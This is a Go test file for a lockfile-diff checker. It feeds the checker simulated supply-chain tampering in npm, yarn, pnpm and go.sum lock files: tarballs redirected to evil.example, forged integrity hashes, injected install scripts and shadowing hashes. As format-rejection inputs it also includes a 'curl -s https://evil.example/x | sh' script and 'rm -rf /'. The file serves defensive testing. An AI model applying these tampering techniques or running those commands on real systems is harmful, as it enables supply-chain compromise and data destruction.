package lockcheck

import (
	"errors"
	"slices"
	"strings"
	"testing"

	"github.com/anchor-review/anchor-review/internal/lockfixtures"
	"github.com/anchor-review/anchor-review/pkg/scope"
)

// fixture reads testdata/name (see testdata/README.md).
func fixture(t testing.TB, name string) string { return lockfixtures.Read(t, name) }

func kinds(fs []Finding) map[string][]string {
	m := map[string][]string{}
	for _, f := range fs {
		m[f.Kind] = append(m[f.Kind], f.Package)
	}
	return m
}

// A real upgrade (npm 11 --package-lock-only: jest 28 to 29, webpack,
// express, ... and a new esbuild) carries one fact: esbuild's install
// script. Every other package comes from the registry with its own hash.
func TestNPMRealUpgrade(t *testing.T) {
	fs, err := Check("package-lock.json", fixture(t, "npm-base.package-lock.json.gz"), fixture(t, "npm-head.package-lock.json.gz"))
	if err != nil {
		t.Fatal(err)
	}
	got := kinds(fs)
	if len(fs) != 1 || len(got[KindScript]) != 1 || got[KindScript][0] != "esbuild@0.21.5" {
		t.Fatalf("findings %+v; want only esbuild's new install script", fs)
	}
	head := strings.Split(fixture(t, "npm-head.package-lock.json.gz"), "\n")
	entry := slices.IndexFunc(head, func(l string) bool { return strings.TrimSpace(l) == `"node_modules/esbuild": {` }) + 1
	if fs[0].Evidence != `"hasInstallScript": true,` || fs[0].Line <= entry || fs[0].Line > entry+12 {
		t.Errorf("finding placed at line %d (esbuild's entry at %d), evidence %q; want its hasInstallScript line", fs[0].Line, entry, fs[0].Evidence)
	}
}

// The attacks on a real package-lock.json: each edit is one an author
// could hide in a 2,000-line lock diff.
func TestNPMAttacks(t *testing.T) {
	base := fixture(t, "npm-head.package-lock.json.gz")
	const lodash = "https://registry.npmjs.org/lodash.merge/-/lodash.merge-4.6.2.tgz"
	if !strings.Contains(base, lodash) {
		t.Fatalf("fixture lacks %s", lodash)
	}
	for _, tt := range []struct {
		name, old, new, kind string
	}{
		{"resolved on another host", lodash, "https://evil.example/lodash.merge/-/lodash.merge-4.6.2.tgz", KindRegistry},
		{"resolved to another package's tarball", lodash, "https://registry.npmjs.org/evil-merge/-/evil-merge-4.6.2.tgz", KindRegistry},
		{"resolved from git", lodash, "git+ssh://git@github.com/evil/lodash.merge.git#abc123", KindRegistry},
		{"resolved over http", lodash, "http://registry.npmjs.org.evil.example/lodash.merge/-/lodash.merge-4.6.2.tgz", KindRegistry},
		{"integrity changed", `"integrity": "sha512-0KpjqX`, `"integrity": "sha512-AAAAqX`, KindIntegrity},
		{"install script added", `"resolved": "` + lodash + `",`, `"resolved": "` + lodash + `", "hasInstallScript": true,`, KindScript},
	} {
		t.Run(tt.name, func(t *testing.T) {
			head := strings.Replace(base, tt.old, tt.new, 1)
			if head == base {
				t.Fatalf("the fixture lacks %q", tt.old)
			}
			fs, err := Check("package-lock.json", base, head)
			if err != nil {
				t.Fatal(err)
			}
			got := kinds(fs)
			if len(fs) != 1 || len(got[tt.kind]) != 1 || !strings.HasPrefix(got[tt.kind][0], "lodash.merge@") {
				t.Fatalf("findings %+v; want one %s finding on lodash.merge", fs, tt.kind)
			}
		})
	}
	t.Run("integrity removed", func(t *testing.T) {
		i := strings.Index(base, `"integrity": "sha512-0KpjqX`)
		if i < 0 {
			t.Fatal("fixture lacks lodash.merge's integrity")
		}
		start := strings.LastIndex(base[:i], "\n")
		end := i + strings.Index(base[i:], "\n")
		head := base[:start] + base[end:] // the integrity line, gone
		fs, err := Check("package-lock.json", base, head)
		if err != nil {
			t.Fatal(err)
		}
		if got := kinds(fs)[KindIntegrity]; len(got) != 1 {
			t.Fatalf("findings %+v; want the removed integrity", fs)
		}
	})
}

func TestYarn(t *testing.T) {
	base, head := fixture(t, "base.yarn.lock"), fixture(t, "head.yarn.lock")
	if fs, err := Check("yarn.lock", base, head); err != nil || len(fs) != 0 {
		t.Fatalf("real yarn upgrade: %+v, %v; want no finding", fs, err)
	}
	const url = "https://registry.yarnpkg.com/left-pad/-/left-pad-1.3.0.tgz"
	injected := strings.Replace(head, url, "https://evil.example/left-pad-1.3.0.tgz", 1)
	fs, err := Check("yarn.lock", base, injected)
	if err != nil || len(kinds(fs)[KindRegistry]) != 1 {
		t.Fatalf("injected host: %+v, %v; want one registry finding", fs, err)
	}
	swapped := strings.Replace(head, "integrity sha512-XI5MPz", "integrity sha512-AAAAPz", 1)
	fs, err = Check("yarn.lock", head, swapped)
	if err != nil || len(kinds(fs)[KindIntegrity]) != 1 {
		t.Fatalf("swapped integrity: %+v, %v; want one integrity finding", fs, err)
	}
	// A new yarn.lock that is a script: not a lock file; the review reads it.
	script := "#!/bin/sh\ncurl -s https://evil.example/x | sh\n"
	if _, err := Check("yarn.lock", "", script); !errors.Is(err, ErrFormat) {
		t.Fatalf("a script named yarn.lock: err %v; want ErrFormat", err)
	}
	// A new yarn.lock whose entry runs a script at install (Berry's exec:).
	berry := "__metadata:\n  version: 8\n  cacheKey: 10c0\n\n\"evil@exec:./x.js\":\n  version: 1.0.0\n  resolution: \"evil@exec:./x.js#./x.js::hash=1&locator=app%40workspace%3A.\"\n  languageName: node\n  linkType: hard\n"
	fs, err = Check("yarn.lock", "", berry)
	if err != nil || len(kinds(fs)[KindScript]) != 1 || len(kinds(fs)[KindRegistry]) != 1 {
		t.Fatalf("Berry exec: %+v, %v; want an install script and a source outside the registry", fs, err)
	}
}

func TestPNPM(t *testing.T) {
	fs, err := Check("pnpm-lock.yaml", fixture(t, "base.pnpm-lock.yaml"), fixture(t, "head.pnpm-lock.yaml"))
	if err != nil {
		t.Fatal(err)
	}
	got := kinds(fs)
	if len(got[KindRegistry])+len(got[KindIntegrity]) != 0 || len(got[KindScript]) == 0 {
		t.Fatalf("findings %v; want install scripts (esbuild requiresBuild) only", got)
	}
	head := fixture(t, "head.pnpm-lock.yaml")
	i := strings.Index(head, "/left-pad@1.3.0:\n    resolution: {integrity: ")
	if i < 0 {
		t.Fatal("fixture lacks left-pad")
	}
	tarball := strings.Replace(head, "/left-pad@1.3.0:\n    resolution: {integrity: ", "/left-pad@1.3.0:\n    resolution: {tarball: https://evil.example/lp.tgz, integrity: ", 1)
	fs, err = Check("pnpm-lock.yaml", head, tarball)
	if err != nil || len(kinds(fs)[KindRegistry]) != 1 {
		t.Fatalf("tarball: %+v, %v; want one registry finding", fs, err)
	}
	if _, err := Check("pnpm-lock.yaml", "", "rm -rf /\n"); !errors.Is(err, ErrFormat) {
		t.Errorf("not YAML of the format: err %v; want ErrFormat", err)
	}
}

func TestGoSum(t *testing.T) {
	base := fixture(t, "go.sum")
	head := strings.Replace(base, "github.com/pkg/errors v0.9.1 h1:FEBLx1zS214owpjy7qsBeixbURkuhQAwrK5UwLGTwt4=",
		"github.com/pkg/errors v0.9.1 h1:AAAAx1zS214owpjy7qsBeixbURkuhQAwrK5UwLGTwt4=", 1)
	fs, err := Check("go.sum", base, head)
	if err != nil || len(fs) != 1 || fs[0].Kind != KindGoSum || fs[0].Line != 3 {
		t.Fatalf("findings %+v, %v; want one go.sum hash change on line 3", fs, err)
	}
	bump := base + "golang.org/x/text v0.14.0 h1:ScX5w1eTa3QqT8oi6+ziP7dTV1S2+ALU0bI+0zXKWiQ=\n"
	if fs, err := Check("go.sum", base, bump); err != nil || len(fs) != 0 {
		t.Errorf("a new module: %+v, %v; want no finding", fs, err)
	}
	// A second hash for the same version, listed before the old one: the
	// go command trusts the first h1 it reads, so this admits other code.
	const pinned = "github.com/pkg/errors v0.9.1 h1:FEBLx1zS214owpjy7qsBeixbURkuhQAwrK5UwLGTwt4="
	shadow := strings.Replace(base, pinned, "github.com/pkg/errors v0.9.1 h1:AAAAx1zS214owpjy7qsBeixbURkuhQAwrK5UwLGTwt4=\n"+pinned, 1)
	if fs, err := Check("go.sum", base, shadow); err != nil || len(fs) != 1 || fs[0].Line != 3 {
		t.Errorf("a shadowing hash: %+v, %v; want one finding on line 3", fs, err)
	}
	// The fake hash listed twice, before and after the real one: the
	// finding is on the first, the one the go command reads.
	twice := shadow + "github.com/pkg/errors v0.9.1 h1:AAAAx1zS214owpjy7qsBeixbURkuhQAwrK5UwLGTwt4=\n"
	if fs, err := Check("go.sum", base, twice); err != nil || len(fs) != 1 || fs[0].Line != 3 {
		t.Errorf("a shadowing hash listed twice: %+v, %v; want one finding on line 3", fs, err)
	}
	// A line removed and re-added as it was, elsewhere: no hash changed.
	moved := strings.Replace(base, pinned+"\n", "", 1) + pinned + "\n"
	if fs, err := Check("go.sum", base, moved); err != nil || len(fs) != 0 {
		t.Errorf("a line moved: %+v, %v; want no finding", fs, err)
	}
	if _, err := Check("go.sum", base, "package main\n"); !errors.Is(err, ErrFormat) {
		t.Errorf("Go code named go.sum: err %v; want ErrFormat", err)
	}
}

func TestNotJSON(t *testing.T) {
	for _, text := range []string{"module.exports = require('child_process')", `{"name":"x"}`, `{"lockfileVersion": 9}`} {
		if _, err := Check("package-lock.json", "", text); !errors.Is(err, ErrFormat) {
			t.Errorf("%q: err %v; want ErrFormat", text, err)
		}
	}
}

// Scope leaves out for this check exactly the files it reads.
func TestSupportedIsScopes(t *testing.T) {
	for _, p := range []string{"package-lock.json", "web/npm-shrinkwrap.json", "yarn.lock", "a/pnpm-lock.yaml", "go.sum", "go.work.sum",
		"Cargo.lock", "poetry.lock", "Gemfile.lock", "bun.lockb", "composer.lock", "x.lock", "package.json"} {
		if Supported(p) != scope.CheckedLock(p) {
			t.Errorf("%s: lockcheck.Supported %t, scope.CheckedLock %t", p, Supported(p), scope.CheckedLock(p))
		}
	}
}

// FuzzCheck: any two texts under any supported name give findings or an
// error, never a panic, and every finding names a line of the head.
func FuzzCheck(f *testing.F) {
	f.Add("yarn.lock", "# yarn lockfile v1\n\na@1:\n  version \"1\"\n", "# yarn lockfile v1\n\na@1:\n  version \"1\"\n  resolved \"git+ssh://x\"\n")
	f.Add("pnpm-lock.yaml", "lockfileVersion: '6.0'\n", "lockfileVersion: '6.0'\npackages:\n  /a@1.0.0:\n    resolution: {tarball: http://x}\n    requiresBuild: true\n")
	f.Add("go.sum", "a v1 h1:x=\n", "a v1 h1:y=\n")
	f.Add("package-lock.json", `{"lockfileVersion":1,"dependencies":{"a":{"version":"1","resolved":"file:../a"}}}`, `{"lockfileVersion":3,"packages":{"node_modules/a":{"version":"1","hasInstallScript":true}}}`)
	f.Add("yarn.lock", "__metadata:\n  version: 8\n", "__metadata:\n  version: 8\n\n\"@s/a@npm:1\":\n  resolution: \"@\"\n")
	f.Fuzz(func(t *testing.T, name, old, new string) {
		fs, err := Check(name, old, new)
		if err != nil {
			return
		}
		lines := strings.Count(new, "\n") + 1
		for _, x := range fs {
			if x.Line < 0 || x.Line > lines {
				t.Fatalf("finding %+v at line %d of a %d-line head", x, x.Line, lines)
			}
		}
	})
}

// Lockfile version 1 (npm 6), as npm-shrinkwrap.json: nested dependencies
// are package slots of their own, each placed on its own lines.
func TestNPMVersion1Shrinkwrap(t *testing.T) {
	base, head := fixture(t, "v1-base.package-lock.json"), fixture(t, "v1-head.npm-shrinkwrap.json")
	if fs, err := Check("npm-shrinkwrap.json", base, head); err != nil || len(fs) != 0 {
		t.Fatalf("real v1 upgrade: %+v, %v; want no finding", fs, err)
	}
	lines := strings.Split(head, "\n")
	lineOf := func(text string, after int) int {
		for i := after; i < len(lines); i++ {
			if strings.Contains(lines[i], text) {
				return i + 1
			}
		}
		t.Fatalf("fixture lacks %q", text)
		return 0
	}
	nested := lineOf("https://registry.npmjs.org/ms/-/ms-2.0.0.tgz", 0)
	injected := strings.Replace(head, "https://registry.npmjs.org/ms/-/ms-2.0.0.tgz", "https://evil.example/ms-2.0.0.tgz", 1)
	fs, err := Check("npm-shrinkwrap.json", head, injected)
	if err != nil || len(fs) != 1 || fs[0].Kind != KindRegistry || fs[0].Package != "ms@2.0.0" || fs[0].Line != nested {
		t.Fatalf("nested injection: %+v, %v; want one registry finding on ms@2.0.0 at line %d", fs, err, nested)
	}
	top := lineOf(`"integrity": "sha512-6FlzubTLZG3J2a`, 0)
	swapped := strings.Replace(head, "sha512-6FlzubTLZG3J2a", "sha512-AAAAubTLZG3J2a", 1)
	fs, err = Check("npm-shrinkwrap.json", head, swapped)
	if err != nil || len(fs) != 1 || fs[0].Kind != KindIntegrity || fs[0].Package != "ms@2.1.3" || fs[0].Line != top {
		t.Fatalf("top-level integrity: %+v, %v; want one integrity finding on ms@2.1.3 at line %d", fs, err, top)
	}
}
